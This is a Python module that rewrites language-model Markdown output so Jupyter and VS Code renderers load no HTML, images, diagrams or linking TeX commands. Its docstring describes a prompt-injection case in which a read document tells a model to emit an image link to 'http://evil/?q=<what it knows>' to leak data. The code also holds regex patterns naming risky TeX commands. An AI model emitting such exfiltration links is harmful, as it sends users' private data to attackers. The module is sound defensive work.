r"""Markdown from a language model, made so that showing it loads nothing.

A front end shows `text/markdown` with the HTML and images in it, and JupyterLab does not sanitise what a cell has just
printed. A document that a model reads may tell it to answer `![](http://evil/?q=<what it knows>)`, and the page would
fetch that. So what a model wrote is written anew, in Markdown that cannot say such things.

No parser stands behind this. Many read the result: marked (JupyterLab, Notebook), markdown-it (VS Code), mistune
(nbconvert), and besides them the front ends' own searches for math, which do not know code from prose. They differ
exactly where an attacker looks; a parser here would tell how one of them reads a text, and takes too long for 15 updates
a second. Instead, the text becomes one that all of them read alike:

- A code block is written anew, closed, in a fence that is longer than any inside. One that math could swallow half of
  stands at the margin, apart.
- A code span stays if it ends on its line, and no reader can take what is dangerous in it for prose.
- Math stays if it is closed. What is dangerous is spaced out in it (`a< b`, the same to TeX), and so are the TeX commands
  that load, link or style.
- Anywhere else, whatever opens a tag, an image, a diagram, math, code, or a link to anything but a plain address, is an
  entity (https://spec.commonmark.org/0.31.2/#entity-and-numeric-character-references): the same to the eye, and no
  syntax to any reader.
"""

from __future__ import annotations

import re

_FENCE = re.compile(
    r"(?P<quote>(?: {0,3}>[ \t]?)*)(?P<item>[ \t]*(?:[-+*]|\d{1,9}[.)])[ \t]+)?"
    r"(?P<indent>[ \t]*)(?P<fence>`{3,}(?=[^`]*$)|~{3,})(?P<info>.*)"
)
_ITEM = re.compile(r"[ \t>]*(?:[-+*]|\d{1,9}[.)])(?:[ \t]|$)")
_INDENTED = re.compile(r" {0,3}\t| {4}")
_BLANK = re.compile(r"\n[ \t]*\n")
_TICKS = re.compile("`+")
# What front ends, or well-known extensions of them, draw: mermaid's diagrams can hold images.
_DRAWN = re.compile(r"mermaid|plantuml|puml|graphviz|dot$|vega|geojson|topojson|echarts|abc$|d2$", re.IGNORECASE)
# A line that makes those around it a table, where a bar ends a code span.
_TABLE = re.compile(r"^(?=[^\n]*[|:])[ \t>*+\d.)|:-]*-[ \t|:-]*$", re.MULTILINE)

_LETTER = r"[\w\-.~/?#%=&+,;!*']|@(?!@)"
_PLAIN = rf"(?:(?:https?://|mailto:)(?:{_LETTER}|:)*|(?:{_LETTER})*)(?:\((?:{_LETTER}|:)*\)(?:{_LETTER})*)*"
_TITLE = r"""(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*"""
_LINK = re.compile(rf"\]\([ \t]*(?P<to>{_PLAIN}){_TITLE}\)")
_IMAGE = re.compile(rf"[ \t]*(?={_LINK.pattern})|(?=[^\[\]\n`]*\][\[(])")
_DEFINITION = re.compile(rf"\]:[ \t]+(?P<to>{_PLAIN}){_TITLE}(?=\n|$)")
_ADDRESS = re.compile(rf"<(?P<to>https?://(?:{_LETTER}|:)+)>")
_ENTITY = re.compile(
    r"&(?!amp;|[lg]t;|quot;|nbsp;|copy;|reg;|trade;|hellip;|[mn]dash;|[lr][sd]quo;|times;|divide;|middot;|bull;|deg;"
    r"|[lrud]arr;|[lgn]e;|euro;|pound;|#39;)[#\w]"
)
# The commands of TeX that load, link or style, in MathJax or KaTeX, or that bring such in.
_COMMAND = r"\\+(?=(?:style|class|cssId|href|url|data|mmlToken|bbox|require|includegraphics|html\w*|setOptions)(?![a-zA-Z]))"
_HARMFUL = re.compile(rf"<[a-zA-Z/!?]|!\[|\][(:]|@@|&[#\w]|https?:|www\.|{_COMMAND}", re.IGNORECASE)
_IN_TEX = re.compile(rf"{_COMMAND}|<(?=\S)|&(?=[#\w])|!(?=\[)|\](?=[(:])|@(?=@)")
_BRACE = re.compile(r"\\[{}$]|([{}])")
_DOLLARS = re.compile(r"(\\*)(\$+)")
_LINE_START = re.compile(r"(?:[ \t>]|[-+*][ \t]|\d+[.)][ \t])*")
# What JupyterLab takes for math even in code; in code at the margin it spares dollars.
_MATH_IN_CODE = re.compile(r"\$|\\(?:begin|end)\{|\\\\[()\[\]]|@@\d", re.IGNORECASE)
_MATH_ENDS = re.compile(r"\\end\{|\\\\[)\]]", re.IGNORECASE)
# Prose in which all emphasis is closed, whoever reads it: marked lets emphasis end in code.
_CALM = re.compile(
    r"(?:[^*_`]|`[^`\n]*`|(?<=\w)_(?=\w)|^[ \t>]*\*[ \t]|(?P<star>\*\*?)\w[^*_`\n]*(?:(?<=\w)(?P=star)|(?P=star)(?=\s))(?!\*))*",
    re.MULTILINE,
)
_LONGEST = 5_000  # characters of one formula; a longer one is shown as it is written

_TOKEN = re.compile(
    rf"(?P<command>{_COMMAND})|(?P<math>\$+|\\begin\{{(?P<name>[a-z]+\*?)\}})|(?P<tex>\\)(?=(?:begin|end)\s*\{{)"
    r"|\\(?P<escaped>[\\`<&!$\"@\]])|(?P<ticks>`+)|(?P<bangs>!+)\[|(?P<close>\][(:])|(?P<colons>^[ \t>]*:::)"
    r"|(?P<char>[<&\"]|@(?=\\?@))",
    re.MULTILINE | re.IGNORECASE,
)
_CONTROLS = dict.fromkeys([0, 0x0B, 0x0C, *range(0x1C, 0x20), 0x85, 0x2028, 0x2029], " ")  # some end a line there


def safe_markdown(text: str) -> str:
    """Write Markdown anew so that it looks the same, and holds no HTML, no image and no diagram.

    Parameters
    ----------
    text : str
        What a language model wrote, whole or as much as has arrived: a code block that is still open is closed.

    Returns
    -------
    str
        Tags are visible text, and images are links. Links stay that lead to `http`, `https`, `mailto` or a relative path.
    """
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    tables = _TABLE.search(text) is not None
    parts: list[str] = []
    number = written = 0
    in_list, blank = False, True
    while number < len(lines):
        line, start = lines[number], number
        if opening := _FENCE.fullmatch(line):
            block, number = _fenced(lines, number + 1, opening)
            in_list = in_list or opening["item"] is not None
        elif blank and not in_list and line.strip() and _INDENTED.match(line):
            while number < len(lines) and (_INDENTED.match(lines[number]) or not lines[number].strip()):
                number += 1
            block = "\n" + _block("\n".join(_dedent(one, 4) for one in lines[start:number]).rstrip(), "") + "\n"
        else:
            in_list = _ITEM.match(line) is not None or (in_list and not (blank and line[:1].strip()))
            blank = not line.strip()
            number += 1
            continue
        parts += [_prose("".join(f"{one}\n" for one in lines[written:start]), tables=tables), block]
        written, blank = number, True
    return "".join(parts) + _prose("\n".join(lines[written:]), tables=tables)


def _fenced(lines: list[str], number: int, opening: re.Match[str]) -> tuple[str, int]:
    """Write the code block anew whose first line was matched; give also the number of the line after it."""
    quote, item, fence = opening["quote"], opening["item"] or "", opening["fence"]
    width = len((item + opening["indent"]).expandtabs(4))
    quoted = re.compile(rf"(?: {{0,3}}>[ \t]?){{{quote.count('>')}}}")
    code: list[str] = []
    while number < len(lines) and (prefix := quoted.match(lines[number])):
        line = lines[number][prefix.end() :].rstrip("\n")
        number += 1
        run = line.strip(" \t")
        if len(run) >= len(fence) and not run.strip(fence[0]) and not _dedent(line, width + 3).startswith(" "):
            break
        code.append(_dedent(line, width))
    content = "\n".join(code)
    words = re.findall(r"[\w+#-][\w+#.-]*", opening["info"], re.ASCII)
    language = words[0] if words and not _DRAWN.match(words[0]) else ""
    if _MATH_IN_CODE.search(content):
        # What it took for math JupyterLab puts back after highlighting, which may have torn the place apart.
        spared = not _MATH_IN_CODE.search(content.replace("$", ""))
        return f"\n{_block(content, language if spared else '')}\n", number
    margin = "> " * quote.count(">")
    if not item:
        return _block(content, language, margin + " " * min(width, 3)), number
    first = margin + " " * min(len(item) - len(item.lstrip()), 3) + item.strip() + " "
    block = _block(content, language, margin + " " * (len(first) - len(margin)))
    # Within a paragraph only a number 1 starts a list; after an empty line any number does.
    return ("" if quote or item.strip() in "-+*1.1)" else "\n") + first + block[len(first) :], number


def _block(code: str, language: str, margin: str = "") -> str:
    """Write a code block of which every line starts with `margin`."""
    fence = "`" * (1 + max(2, 0, *map(len, _TICKS.findall(code))))
    body = "".join(f"{margin}{line}\n" for line in code.split("\n")) if code else ""
    return f"{margin}{fence}{language}\n{body}{margin}{fence}\n"


def _dedent(line: str, columns: int) -> str:
    """Take up to so many columns of blanks from the start of a line."""
    bare = line.lstrip(" \t")
    return line[: len(line) - len(bare)].expandtabs(4)[columns:] + bare if columns else line


def _prose(text: str, *, tables: bool) -> str:
    """Write what is not in a code block anew."""
    text = text.translate(_CONTROLS)
    parts: list[str] = []
    done, quotes = 0, False
    while token := _TOKEN.search(text, done):
        parts.append(text[done : token.start()])
        written, done = token[0], token.end()
        if token["math"]:
            written, done = _formula(text, token)
            # A quotation mark in what JupyterLab takes for math could end the attribute that it puts the math into.
            quotes = quotes or not written.startswith("&")
        elif token["ticks"]:
            written, done = _span(text, token, tables=tables)
        elif token["bangs"] or token["close"] or written == "<":
            written, done = _bracket(text, token)
        elif token["command"]:
            written += " "
        elif token["escaped"]:
            written = _entities(token["escaped"])
        elif written not in ("&", '"') or (quotes if written == '"' else _ENTITY.match(text, token.start())):
            written = written.rstrip(written.strip()) + _entities(written.strip())
        parts.append(written)
    return "".join(parts) + text[done:]


def _formula(text: str, token: re.Match[str]) -> tuple[str, int]:
    """Write the math that starts here anew, or only its start if not every reader takes it for math; tell where it ends."""
    start, inner, opener = token.start(), token.end(), token[0]
    if token["name"]:
        closer = opener.replace(opener[1:6], "end", 1)
        found = text.find(closer, inner, start + _LONGEST)
    else:
        runs = _DOLLARS.finditer(text, inner, start + _LONGEST)
        closing = next((run for run in runs if run[1] != "\\"), None)
        closer, found = opener, closing.start() if closing and closing[0] == opener in ("$", "$$") else -1
    end = found + len(closer)
    body, after = text[inner:found], text[end : end + 1]
    depth = 0
    for brace in _BRACE.finditer(body):
        depth += {"{": 1, "}": -1, None: 0}[brace[1]] if depth or brace[1] == "{" else 0
    begins = _LINE_START.fullmatch(text, text.rfind("\n", 0, start) + 1, start) is not None
    ends = not text[end:].partition("\n")[0].strip()
    odd = body.count("\\begin") != body.count("\\end") or "`" in body or _BLANK.search(body) is not None or depth
    torn = "\n" in body and not token["name"] and not (opener == "$$" and begins and ends)
    if found < 0 or not body or odd or torn or ("$" in body and token["name"]) or (opener == "$" and after.isdigit()):
        return _entities(opener[0] * opener.count(opener[0])) + opener.lstrip("$\\"), inner
    # VS Code reads two dollars at the start of a line as a block, up to the next line that has two dollars.
    apart = "\u200b" if opener == "$$" and begins and not ends else ""
    return apart + opener + _IN_TEX.sub(r"\g<0> ", body).replace('"', "\u201d") + closer, end


def _span(text: str, token: re.Match[str], *, tables: bool) -> tuple[str, int]:
    """Write the code span that starts here anew, or only its backticks if a reader might not take it for code."""
    start, inner = token.span()
    line_end = text.find("\n", inner)
    runs = _TICKS.finditer(text, inner, line_end if line_end >= 0 else len(text))
    closing = next((run for run in runs if run[0] == token[0]), None)
    if closing is None:
        return _entities(token[0]), inner
    code, end = text[inner : closing.start()], closing.end()
    gap = _BLANK.search(text, end)
    swallowed = "\\" in code and _MATH_IN_CODE.search(code) and _MATH_ENDS.search(text, inner, gap.start() if gap else len(text))
    if not _HARMFUL.search(code):
        return (_entities(token[0]), inner) if swallowed else (text[start:end], end)
    before = text[text.rfind("\n\n", 0, start) + 1 : start]
    calm = not re.search("[*_]", code) or (len(before) < _LONGEST and _CALM.fullmatch(before))
    if swallowed or re.search(r"[$\\~]", code) or (tables and "|" in code) or not calm:
        return _entities(token[0]), inner
    # marked takes a backtick into a tilde, or an address, that it touches.
    touched = before[-1:] == "~" or (before[-1:].strip() and re.search(r"://|www\.", before, re.IGNORECASE))
    return (" " if touched else "") + text[start:end], end


def _bracket(text: str, token: re.Match[str]) -> tuple[str, int]:
    """Write an image, the end of a link's text, or an address in angle brackets anew; tell where it ends."""
    start, end = token.span()
    if token["bangs"]:
        image = _IMAGE.match(text, end)
        if image is None:
            return _entities(token["bangs"]) + "[", end
        return _entities(token["bangs"][1:]) + "[image: " + _address(image["to"] or ""), image.end()
    pattern = {"](": _LINK, "]:": _DEFINITION, "<": _ADDRESS}[token[0]]
    plain = pattern.match(text, start)
    if plain is None:
        return token[0][:-1] + _entities(token[0][-1]), end
    return token[0] + (" " if token[0] == "]:" else "") + _address(plain["to"]) + {"](": ")", "]:": "", "<": ">"}[token[0]], plain.end()


def _address(plain: str) -> str:
    return plain.replace("&amp;", "&").replace("&", "&amp;")


def _entities(characters: str) -> str:
    return "".join(f"&#{ord(one)};" for one in characters)
